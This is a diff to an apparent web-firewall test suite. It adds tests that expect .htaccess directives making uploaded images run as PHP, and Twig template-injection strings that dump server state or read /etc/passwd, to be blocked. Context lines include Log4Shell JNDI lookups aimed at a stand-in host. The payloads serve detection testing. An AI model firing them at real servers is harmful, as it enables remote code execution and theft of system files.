@@ -56,6 +56,13 @@ def xml_body(text: str) -> Request:
                    text.encode())
 
 
+def upload(filename: str, content: str) -> Request:
+    body = (f'--b\r\nContent-Disposition: form-data; name="f"; filename="{filename}"\r\n\r\n'
+            f"{content}\r\n--b--\r\n").encode()
+    return Request(b"POST", b"/upload", BROWSER + [
+        (b"Content-Type", b"multipart/form-data; boundary=b")], body)
+
+
 class ClassCase(SynchronousTestCase):
     """Base: helpers that check a verdict."""
 
@@ -207,6 +214,14 @@ class CodeInjectionTests(ClassCase):
         self.blocked(Request(b"POST", b"/upload", BROWSER + [
             (b"Content-Type", b"multipart/form-data; boundary=b")], upload), "php")
 
+    def test_php_handlers(self) -> None:
+        """A planted .htaccess: directives that make uploads run as PHP."""
+        self.blocked(upload("notes.txt", "AddType application/x-httpd-php .png\n"), "php")
+        self.blocked(upload("x", "<FilesMatch \\.jpg>\nSetHandler application/x-httpd-php\n</FilesMatch>"),
+                     "php")
+        self.blocked(form(cfg="php_value auto_prepend_file /tmp/x.png"), "php")
+        self.passes(form(note="Apache needs AddType image/svg+xml .svg for the icons"))
+
     def test_java(self) -> None:
         """Log4Shell and its obfuscations, OGNL, deserialization."""
         for value in ("${jndi:ldap://x.example/a}", "${${lower:j}${lower:n}di:ldap://x/a}",
@@ -222,6 +237,13 @@ class CodeInjectionTests(ClassCase):
             request = query(payload)
             verdict = engine().inspect(request, POLICY)
             self.assertTrue(verdict.blocked, payload)
+
+    def test_ssti_server_state(self) -> None:
+        """Twig expressions that dump the request's server variables or the whole context."""
+        self.blocked(query("{{app.request.server.all|join(',')}}"), "ssti")
+        self.blocked(query("{{ _context|keys|join }}"), "ssti")
+        self.blocked(query("{{ source('/etc/passwd') }}"), "ssti")
+        self.passes(query("Hi {{ app.user.name }}, see {{ context }}"))
 
     def test_lookalikes(self) -> None:
         """Template syntax in ordinary text, Java in prose."""
